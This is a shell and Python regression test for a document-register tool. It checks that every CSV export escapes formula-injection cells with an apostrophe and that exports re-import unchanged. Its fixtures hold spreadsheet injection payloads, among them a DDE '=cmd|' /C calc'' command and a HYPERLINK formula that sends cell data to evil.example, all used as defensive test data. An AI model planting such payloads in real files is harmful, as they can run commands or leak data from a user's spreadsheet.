#!/usr/bin/env bash
# CSV formula injection (issue 13, F6; docs/contract.md "CSV cells"): texts a spreadsheet
# program would run (=HYPERLINK(…), =cmd|' /C calc'!A0, +…, -…, @…, a leading CR) in
# document summaries and unit names. Every CSV the system writes — `danvan export`,
# `danvan report --format csv`, `danvan units list`, GET /r/documents/export.csv and the
# annex CSV (GET /report?…&format=csv) — has no cell that begins with = + - @ tab or CR
# unless it is a number; those texts are written with an apostrophe before them. The
# register export read back by `danvan import` gives the very values it was made of
# (a second export is byte-identical; the stored summaries are the originals).
source "$(dirname "$0")/lib.sh" "$@"
command -v sqlite3 >/dev/null || { echo "FAIL: the sqlite3 CLI is needed" >&2; exit 1; }
cd "$W" || exit 1

cat >units.csv <<'CSV'
code,name,type,level,parent_code
R,Tỉnh Công Thức,Tỉnh,1,
D1,=cmd|' /C calc'!A0,Huyện,2,R
D2,@SUM(1+1),Huyện,2,R
CSV
# the summaries, one a document (docs.py writes the import file and summaries.txt)
python3 - <<'PY'
import csv, json
# as typed in the import file; what is stored: the same, but for "''=…", which is read as
# "'=…" (an apostrophe before a formula is taken off: the file may be one of our exports)
summaries = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1+1",
             "-2+3", "@SUM(A1:A9)", "\rCR đầu dòng", "''=đã có dấu nháy", "-5", "-1.5",
             "Nghị quyết bình thường, có dấu phẩy", "'văn bản có nháy đầu"]
with open("docs.csv", "w", encoding="utf-8", newline="") as f:
    w = csv.writer(f, lineterminator="\n", quoting=csv.QUOTE_ALL)  # a CR alone is quoted too
    w.writerow(["kind", "symbol", "date", "unit", "issued_by", "summary", "fields"])
    for i, s in enumerate(summaries):
        w.writerow(["NQ", f"{i + 1:02d}-NQ/TU", "2023-03-01", "R" if i % 2 else "D1", "cap_uy", s, "khac"])
json.dump([x[1:] if x.startswith("''") else x for x in summaries], open("summaries.json", "w"))
# the cells each CSV must hold: the dangerous texts with an apostrophe, the numbers as they are
guarded = ["'=cmd|' /C calc'!A0", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "-5", "-1.5", "''=đã có dấu nháy",
           "'văn bản có nháy đầu", "'\rCR đầu dòng"]
json.dump({"documents": guarded, "annex4": ["'=cmd|' /C calc'!A0", "'-2+3", "'\rCR đầu dòng", "-5"],
           "units": ["'=cmd|' /C calc'!A0", "'@SUM(1+1)"]}, open("expected.json", "w"))
PY

fresh() { # DB : a new database with the tree
  run_dv o e init "$1" || { fail "init $1: $(cat e)"; return 1; }
  run_dv o e import units "$1" units.csv || { fail "import units into $1: $(cat e)"; return 1; }
}
fresh db || finish
run_dv o e import documents db docs.csv || { fail "import documents: $(cat e)"; finish; }
add_user offr R officer

# every CSV cell: no formula unless a number; the texts guarded appear with the apostrophe
cat >cells.py <<'PY'
"""cells.py FILE WHAT [KEY]: every cell of the CSV FILE is safe; each text of expected.json's
KEY is a cell of the file"""
import csv, json, re, sys
from dvtest import bad, err
path, what = sys.argv[1], sys.argv[2]
want = json.load(open("expected.json"))[sys.argv[3]] if len(sys.argv) > 3 else []
rows = list(csv.reader(open(path, encoding="utf-8-sig", newline="")))
cells = [c for r in rows for c in r]
if len(rows) < 2: err(f"{what}: {len(rows)} rows")
number = re.compile(r"^[+-]?[0-9]+([.,][0-9]+)?$")
for c in cells:
    if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.match(c):
        err(f"{what}: a cell begins with {c[:1]!r}: {c[:60]!r}")
for x in want:
    if x not in cells: err(f"{what}: no cell {x!r}")
sys.exit(1 if bad else 0)
PY
run_dv export1.csv e export documents db --unit R || fail "export documents: $(cat e)"
check "danvan export documents" python3 cells.py export1.csv "danvan export" documents
run_dv report.csv e report db --form bieu-4 --period 2023S1 --unit R --format csv || fail "report csv: $(cat e)"
check "danvan report --format csv (Biểu 4: the summaries)" python3 cells.py report.csv "report bieu-4 csv" annex4
run_dv report1.csv e report db --form bieu-1 --period 2023S1 --unit R --level 2 --format csv || fail "report csv: $(cat e)"
check "danvan report --format csv (Biểu 1: the unit names)" python3 cells.py report1.csv "report bieu-1 csv" units
run_dv units.out e units db list --unit R --format csv || fail "units list: $(cat e)"
check "danvan units list --format csv" python3 cells.py units.out "units list" units

# the round trip: the export imported into a fresh database, exported again
fresh db2 || finish
run_dv o e import documents db2 export1.csv || fail "import of the export: $(cat e)"
run_dv export2.csv e export documents db2 --unit R || fail "second export: $(cat e)"
if cmp -s export1.csv export2.csv; then ok; else
  fail "the export of the re-imported export differs:"
  diff export1.csv export2.csv | head -10 >&2
fi
check "the re-imported summaries are the originals" python3 - <<'PY'
import json, sqlite3
from dvtest import bad, err
want = sorted(json.load(open("summaries.json")))
for db in ("db", "db2"):
    con = sqlite3.connect(db)
    got = sorted(json.loads(f)["summary"] for (f,) in con.execute("select data from records"))
    if got != want: err(f"{db}: the stored summaries differ: {[g for g in got if g not in want]} "
                        f"instead of {[w for w in want if w not in got]}")
import sys
sys.exit(1 if bad else 0)
PY

start_server db
check "the CSVs of the web" python3 - "$PORT" <<'PY'
import sys
from dvtest import bad, err, Client
s = Client(int(sys.argv[1])).login("offr")
for name, path in (("export.csv", "/r/documents/export.csv?unit=R&period="),
                   ("annex4.csv", "/report?form=bieu-4&period=2023S1&unit=R&format=csv"),
                   ("annex1.csv", "/report?form=bieu-1&period=2023S1&unit=R&level=2&format=csv")):
    st, h, body = s.get(path)
    if st != 200 or not h.get("content-type", "").startswith("text/csv"):
        err(f"GET {path}: HTTP {st} {h.get('content-type')}")
    open(name, "wb").write(body)
sys.exit(1 if bad else 0)
PY
check "GET /r/documents/export.csv" python3 cells.py export.csv "web export" documents
check "the annex CSV (Biểu 4)" python3 cells.py annex4.csv "annex bieu-4" annex4
check "the annex CSV (Biểu 1)" python3 cells.py annex1.csv "annex bieu-1" units
check_server_end
finish
